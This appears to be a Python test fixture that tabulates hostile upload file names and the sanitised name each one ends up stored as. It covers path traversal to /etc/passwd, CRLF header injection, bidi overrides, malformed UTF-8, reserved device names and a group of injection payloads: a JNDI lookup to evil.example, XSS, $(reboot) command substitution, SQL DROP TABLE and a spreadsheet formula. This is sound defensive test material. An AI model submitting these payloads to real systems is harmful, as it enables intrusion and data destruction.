"""Hostile names of files: the bytes that are sent, and the name that is shown from then on.

`NAMES` is the table. It does not matter by which of the ways a name comes in.
"""

from dataclasses import dataclass

UNNAMED = "unnamed"
WIDE = "\uff0e\uff0e\uff0f" * 2
"""Dots and slashes as East Asian fonts have them; their compatible forms are the plain ones."""
ZALGO = "Z\u0351\u036b\u0313\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0337\u0321\u0322l"
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"


@dataclass(frozen=True, slots=True)
class HostileName:
    """One row of the table."""

    group: str
    name: str
    sent: bytes
    stored: str


def _rows(group: str, *rows: tuple[str, str | bytes, str]) -> list[HostileName]:
    return [
        HostileName(group, name, sent.encode() if isinstance(sent, str) else sent, stored)
        for name, sent, stored in rows
    ]


NAMES = [
    *_rows(
        "paths",
        ("up and up", "../../../../etc/passwd", "passwd"),
        ("up and up on Windows", "..\\..\\..\\windows\\win.ini", "win.ini"),
        ("both kinds of slashes", "..\\../..\\x.txt", "x.txt"),
        ("from the root", "/etc/shadow", "shadow"),
        ("from a drive", "C:\\Users\\me\\photo.jpg", "photo.jpg"),
        ("from a server", "\\\\server\\share\\x.txt", "x.txt"),
        ("escaped", "..%2f..%2fetc%2fpasswd", "..%2f..%2fetc%2fpasswd"),
        ("escaped twice", "%252e%252e%252fpasswd", "%252e%252e%252fpasswd"),
        ("overlong", b"..\xc0\xaf..\xc0\xafpasswd", "..\ufffd\ufffd..\ufffd\ufffdpasswd"),
        ("of full width", f"{WIDE}passwd", f"{WIDE}passwd"),
        ("two dots", "..", UNNAMED),
        ("one dot", ".", UNNAMED),
        ("a slash", "/", UNNAMED),
        ("a folder", "folder/", UNNAMED),
    ),
    *_rows(
        "controls",
        ("NUL", b"photo.jpg\0.php", "photo.jpg.php"),
        ("a header", b"a\r\nSet-Cookie: admin=1", "aSet-Cookie: admin=1"),
        ("an answer", b"a\r\n\r\n<script>", "a<script>"),
        ("a line feed", b"a\nb.txt", "ab.txt"),
        ("a colour", b"\x1b[31mred\x1b[0m.txt", "[31mred[0m.txt"),
        ("a bell and a backspace", b"a\x07\x08b.txt", "ab.txt"),
        ("a delete", b"a\x7fb.txt", "ab.txt"),
        ("controls of Latin-1", "a\x85\x9bb.txt", "ab.txt"),
        ("line breaks of Unicode", "a\u2028b\u2029c.txt", "abc.txt"),
        ("nothing else", b"\0\x01\x02", UNNAMED),
    ),
    *_rows(
        "quoting",
        ("a quote and a parameter", 'a"; filename=b.exe', 'a"; filename=b.exe'),
        ("a quote and an extended parameter", "a\"; filename*=UTF-8''b.exe", "a\"; filename*=UTF-8''b.exe"),
        ("an extended parameter", "a; filename*=UTF-8''b.exe", "a; filename*=UTF-8''b.exe"),
        ("only quotes", '""""', '""""'),
        ("semicolons, commas and spaces", "a;b, c=d e.txt", "a;b, c=d e.txt"),
        ("apostrophes", "it's ''mine''.txt", "it's ''mine''.txt"),
        ("a percent sign", "100%.txt", "100%.txt"),
        ("a plus", "a+b c.txt", "a+b c.txt"),
    ),
    *_rows(
        "direction",
        ("an override", "invoice\u202egpj.exe", "invoicegpj.exe"),
        ("an embedding", "a\u202ab\u202cc.txt", "abc.txt"),
        ("isolates", "a\u2066b\u2069c.txt", "abc.txt"),
        ("marks", "a\u200eb\u200fc\u061cd.txt", "abcd.txt"),
        ("Hebrew, which needs none", "שלום.txt", "שלום.txt"),
    ),
    *_rows(
        "bytes",
        ("half of a surrogate pair", b"a\xed\xa0\x80b.txt", "a\ufffd\ufffd\ufffdb.txt"),
        ("a surrogate pair", b"\xed\xa0\xbd\xed\xb8\x80.txt", "\ufffd" * 6 + ".txt"),
        ("Latin-1", b"caf\xe9.txt", "caf\ufffd.txt"),
        ("an end in the middle of a letter", b"a\xe7\x8c", "a\ufffd"),
        ("beyond Unicode", b"a\xf4\x90\x80\x80b", "a\ufffd\ufffd\ufffd\ufffdb"),
        ("noncharacters", "a\ufffe\uffffb", "a\ufffe\uffffb"),
    ),
    *_rows(
        "length",
        ("5,000 letters", "x" * 5000, "x" * 255),
        ("1,000 letters and an extension", "x" * 1000 + ".jpeg", "x" * 250 + ".jpeg"),
        ("300 cats", "猫" * 300 + ".png", "猫" * 83 + ".png"),
        ("an extension of 300", "a." + "x" * 300, "a." + "x" * 253),
        ("300 dots and an x", "." * 300 + "x" * 21, UNNAMED),
        ("spaces where it is cut", "x" * 250 + " " * 40 + "y" * 40, "x" * 250),
    ),
    *_rows(
        "systems",
        ("a device", "CON", "CON"),
        ("a device with an extension", "NUL.txt", "NUL.txt"),
        ("a stream", "a.txt:hidden.exe", "a.txt:hidden.exe"),
        ("a dotfile", ".htaccess", ".htaccess"),
        ("an option", "-rf", "-rf"),
        ("a wildcard", "*.?", "*.?"),
        ("dots behind", "photo.jpg...", "photo.jpg..."),
        ("spaces around", "  photo.jpg \t ", "photo.jpg"),
        ("spaces of Unicode around", "\u3000\u00a0photo.jpg\u2003", "photo.jpg"),
        ("only spaces", "   ", UNNAMED),
        ("a home", "~root", "~root"),
        ("two extensions", "photo.php.jpg", "photo.php.jpg"),
    ),
    *_rows(
        "code",
        ("a lookup", "${jndi:ldap:evil.example}", "${jndi:ldap:evil.example}"),
        ("a template", "{{7*7}}<%= 7*7 %>#{7*7}", "{{7*7}}<%= 7*7 %>#{7*7}"),
        ("a format", "%s%s%n{0.__class__}", "%s%s%n{0.__class__}"),
        ("markup", "<img src=x onerror=alert(1)>.png", "<img src=x onerror=alert(1)>.png"),
        ("a command", "$(reboot);`reboot`|reboot&.txt", "$(reboot);`reboot`|reboot&.txt"),
        ("a statement", "a'; DROP TABLE files; --.txt", "a'; DROP TABLE files; --.txt"),
        ("a formula", "=cmd|'calc'!A0.csv", "=cmd|'calc'!A0.csv"),
        ("an encoded word", "=?utf-8?q?=2E=2E=2F?=", "=?utf-8?q?=2E=2E=2F?="),
    ),
    *_rows(
        "letters",
        ("accents to be composed", "e\u0301te\u0301.png", "été.png"),
        ("an accent behind an override", "e\u202e\u0301.png", "é.png"),
        ("a Greek question mark", "a\u037eb.txt", "a;b.txt"),
        ("Zalgo", ZALGO, ZALGO),
        ("a family", f"{FAMILY}.png", f"{FAMILY}.png"),
        ("look-alikes", "\u0440\u0430ypal.exe", "\u0440\u0430ypal.exe"),
        ("joiners and a byte order mark", "\ufeffa\u200bb.txt", "\ufeffa\u200bb.txt"),
        ("letters beyond the first plane", "\U0001d4bb\U0001d4be.txt", "\U0001d4bb\U0001d4be.txt"),
    ),
]
